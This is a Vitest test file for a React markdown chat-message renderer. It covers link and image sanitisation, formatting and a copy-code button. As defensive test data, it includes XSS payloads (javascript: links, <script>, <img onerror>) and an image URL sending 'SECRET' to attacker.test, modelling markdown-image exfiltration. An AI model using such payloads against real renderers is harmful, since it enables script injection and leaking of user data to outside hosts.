// @vitest-environment jsdom
import { act, cleanup, fireEvent, render, screen } from '@testing-library/react';
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { MarkdownMessage, markdownRenderer } from './markdown-message';
import { highlighter } from './markdown-renderer';
import { isOwnImageSource } from './own-image-source';

function renderMarkdown(markdown: string) {
  return render(<MarkdownMessage markdown={markdown} />).container;
}

let writeText: ReturnType<typeof vi.fn<(text: string) => Promise<void>>>;

// The renderer and the highlighter are lazy chunks (markdown-loading.test.tsx covers the wait); here they are loaded.
beforeAll(async () => {
  await Promise.all([markdownRenderer.load(), highlighter.load()]);
});

beforeEach(() => {
  writeText = vi.fn<(text: string) => Promise<void>>().mockResolvedValue(undefined);
  Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
});
afterEach(() => {
  cleanup();
  vi.useRealTimers();
});

describe('MarkdownMessage: addresses (security.md 7d)', () => {
  it('leaves no clickable javascript: link', () => {
    const container = renderMarkdown('[x](javascript:alert(1)) and [y](JAVASCRIPT:alert(2)) and <javascript:alert(3)>');
    for (const link of container.querySelectorAll('a')) expect(link.getAttribute('href') ?? '').not.toMatch(/script/i);
    expect(container.querySelectorAll('a[href]')).toHaveLength(0);
    expect(screen.getByText('x').tagName).toBe('SPAN');
  });

  it('strips data: and other protocols off links', () => {
    const container = renderMarkdown(
      '[a](data:text/html,<script>alert(1)</script>) [b](vbscript:msgbox) [c](file:///etc/passwd) [d](ftp://x.test/f)',
    );
    expect(container.querySelectorAll('a[href]')).toHaveLength(0);
    expect(container.textContent).toContain('a b c d');
  });

  it('keeps the spec’s protocols and relative addresses; links open in a new tab with rel="noopener noreferrer"', () => {
    const container = renderMarkdown(
      '[w](https://example.com/a) [h](http://example.com) [m](mailto:a@b.test) [x](xmpp:a@b.test) [i](irc://irc.test/c) [r](/note/abc) www.example.org',
    );
    const links = [...container.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://example.com/a',
      'http://example.com',
      'mailto:a@b.test',
      'xmpp:a@b.test',
      'irc://irc.test/c',
      '/note/abc',
      'http://www.example.org',
    ]);
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('shows HTML as text, never as HTML', () => {
    const container = renderMarkdown(
      '<script>alert(1)</script>\n\nInline <img src=x onerror=alert(2)> and <b>bold?</b>\n\n<iframe src="https://attacker.test"></iframe>',
    );
    expect(container.querySelector('script, img, iframe, b')).toBeNull();
    expect(container.textContent).toContain('<script>alert(1)</script>');
    expect(container.textContent).toContain('<img src=x onerror=alert(2)>');
    for (const element of container.querySelectorAll('*')) {
      for (const attribute of element.attributes) expect(attribute.name).not.toMatch(/^on/i);
    }
  });
});

describe('MarkdownMessage: images', () => {
  it('does not render an image from another site: no <img>, its alt text and a note instead (no request)', () => {
    const container = renderMarkdown(
      '![a](https://attacker.test/p.png?d=SECRET) ![b](//attacker.test/q.png) ![](http://attacker.test/r.png)',
    );
    expect(container.querySelectorAll('img')).toHaveLength(0);
    expect(container.innerHTML).not.toContain('attacker.test');
    expect(screen.getByText('a')).toBeTruthy();
    expect(screen.getAllByText('(image blocked)')).toHaveLength(3);
  });

  it('renders our own images (relative or this origin) and inline data: rasters', () => {
    const own = `${window.location.origin}/logo.png`;
    const container = renderMarkdown(
      `![rel](/api/lessons/1/cover.png) ![abs](${own}) ![inline](data:image/png;base64,iVBORw0KGgo=)`,
    );
    const images = [...container.querySelectorAll('img')];
    expect(images.map((img) => [img.alt, img.getAttribute('src')])).toEqual([
      ['rel', '/api/lessons/1/cover.png'],
      ['abs', own],
      ['inline', 'data:image/png;base64,iVBORw0KGgo='],
    ]);
  });

  it('blocks data: documents and SVG as image addresses', () => {
    const container = renderMarkdown(
      '![x](data:text/html,hi) ![y](data:image/svg+xml,<svg/>) ![z](javascript:alert(1))',
    );
    expect(container.querySelectorAll('img')).toHaveLength(0);
  });

  it('isOwnImageSource decides by origin, however the address is written', () => {
    const base = 'https://turtle.test/chats';
    expect(isOwnImageSource('/a.png', base)).toBe(true);
    expect(isOwnImageSource('a.png', base)).toBe(true);
    expect(isOwnImageSource('https://turtle.test/a.png', base)).toBe(true);
    expect(isOwnImageSource('//attacker.test/a.png', base)).toBe(false);
    expect(isOwnImageSource('\\\\attacker.test/a.png', base)).toBe(false);
    expect(isOwnImageSource('https://turtle.test.attacker.test/a.png', base)).toBe(false);
    expect(isOwnImageSource('http://turtle.test/a.png', base)).toBe(false);
    expect(isOwnImageSource('', base)).toBe(false);
    expect(isOwnImageSource(undefined, base)).toBe(false);
  });
});

describe('MarkdownMessage: formatting', () => {
  it('renders GFM: headings, lists, a table, strikethrough, a task list, a blockquote and inline code', () => {
    const container = renderMarkdown(
      [
        '# Title',
        '',
        '- one',
        '- two',
        '',
        '| Fund | Fee |',
        '| --- | ---: |',
        '| Index | 0.05% |',
        '',
        '~~old~~ and `inline()`',
        '',
        '- [x] done',
        '',
        '> quoted',
      ].join('\n'),
    );
    expect(screen.getByRole('heading', { level: 1, name: 'Title' })).toBeTruthy();
    expect(screen.getAllByRole('listitem').length).toBeGreaterThanOrEqual(3);
    expect(screen.getByRole('table')).toBeTruthy();
    expect(screen.getAllByRole('columnheader').map((th) => th.textContent)).toEqual(['Fund', 'Fee']);
    expect(screen.getByRole('cell', { name: '0.05%' })).toBeTruthy();
    expect(container.querySelector('del')?.textContent).toBe('old');
    expect(container.querySelector('code')?.textContent).toBe('inline()');
    expect(container.querySelector('input[type="checkbox"]')).toHaveProperty('checked', true);
    expect(container.querySelector('blockquote')?.textContent?.trim()).toBe('quoted');
  });

  it('shows a code block with its language, highlighted, and a Copy button that copies the code', async () => {
    vi.useFakeTimers();
    const code = 'const total = fees.reduce((a, b) => a + b, 0);\nconsole.log(total);';
    const container = renderMarkdown('```typescript\n' + code + '\n```\n\n```\nplain text\n```');
    expect(screen.getByText('typescript')).toBeTruthy();
    expect(screen.getByText('text')).toBeTruthy();
    expect(container.querySelector('pre code.hljs .hljs-keyword')?.textContent).toBe('const');

    const [copy] = screen.getAllByRole('button', { name: 'Copy code' });
    await act(async () => {
      fireEvent.click(copy!);
    });
    expect(writeText).toHaveBeenCalledWith(code + '\n');
    expect(copy!.textContent).toBe('Copied');
    expect(copy!.getAttribute('aria-label')).toBe('Copied');
    act(() => {
      vi.advanceTimersByTime(2000);
    });
    expect(copy!.textContent).toBe('Copy');
  });

  it('says so when the clipboard refuses', async () => {
    writeText.mockRejectedValue(new Error('denied'));
    document.execCommand = vi.fn(() => false);
    renderMarkdown('```\nx\n```');
    const copy = screen.getByRole('button', { name: 'Copy code' });
    await act(async () => {
      fireEvent.click(copy);
    });
    expect(copy.textContent).toBe('Copy failed');
  });
});
